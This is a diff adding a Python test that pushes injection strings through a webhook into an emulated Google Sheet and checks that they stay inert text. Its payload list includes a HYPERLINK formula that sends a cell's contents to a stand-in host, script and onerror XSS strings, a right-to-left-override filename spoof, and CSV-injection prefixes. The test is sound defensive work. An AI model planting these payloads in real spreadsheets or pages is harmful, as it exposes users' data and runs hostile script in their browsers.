@@ -1,0 +1,55 @@
+"""What people and programs write is text, from the webhook to the eye: no formula, no page."""
+
+from pathlib import Path
+from typing import Any
+
+import requests
+from werkzeug.datastructures import MultiDict
+
+from emulator import Emulator
+from tests.made_up import comment, document, milestone, task, uuid
+from tests.world import World, wait_for
+
+EVIL = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
+    '<script>alert(1)</script><img src=x onerror="alert(1)">',
+    "\u202egpj.exe\u202c\U0001f469\u200d\U0001f680",
+    "+1+1",
+    "@SUM(A1)",
+    "'=1",
+]
+
+
+def webhook(job: int, evil: str) -> dict[str, Any]:
+    """A milestone that says `evil` wherever somebody may write."""
+    return milestone(
+        job,
+        job,
+        name=evil,
+        status=evil,
+        comments=[comment(evil, "2026-03-01T10:00:00Z", "ada@installer.example")],
+        tasks=[task(document(job, evil), name=evil)],
+    )
+
+
+def test_a_text_stands_in_the_sheet_as_it_was_sent(tmp_path: Path, sqlite_url: str) -> None:
+    """A homeowner's or an installer's words would else run in the sheet of whoever opens it."""
+    with Emulator() as google:
+        world = World(google, tmp_path, sqlite_url, DRIVE_FOLDER_ID="")
+        with world.receiver().ready():
+            for job, evil in enumerate(EVIL):
+                assert world.send(webhook(job, evil)).status_code == 202
+            wait_for(lambda: len(world.by_site()) == len(EVIL))
+        for job, evil in enumerate(EVIL):
+            row = world.by_site()[uuid(job)]
+            assert evil in row["Last comment"].text
+            assert row["Current milestone"].text == evil
+            assert evil in row[f"{evil} documents"].text
+        where, query = {"spreadsheetId": world.spreadsheet}, MultiDict({"includeGridData": "true"})
+        stored = google.sheets.handle("sheets.spreadsheets.get", where, query, None, "onlooker")
+        assert "stringValue" in str(stored)
+        assert "formulaValue" not in str(stored)
+        page = requests.get(f"{google.url}/spreadsheets/d/{world.spreadsheet}", timeout=10)
+        assert page.ok
+        assert "<script>alert" not in page.text
+        assert "<img src=x" not in page.text
